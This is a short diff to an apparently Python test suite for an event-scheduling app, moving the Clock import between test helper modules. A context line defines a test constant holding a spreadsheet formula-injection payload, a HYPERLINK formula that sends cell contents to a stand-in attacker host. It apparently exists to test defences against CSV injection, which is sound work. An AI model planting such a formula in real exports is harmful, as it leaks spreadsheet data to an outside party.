@@ -23,7 +23,6 @@ from tests.conftest import ADMIN_ID
 from tests.eventkit import (
     NOT_ALLOWED,
     START,
-    Clock,
     create_event,
     daily_sessions,
     db,
@@ -33,7 +32,7 @@ from tests.eventkit import (
     sent,
     user_id,
 )
-from tests.helpers import onboard
+from tests.helpers import Clock, onboard
 
 FIRST = START + timedelta(days=7)  # 08:00 UTC, 10:00 in Riga
 EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")'
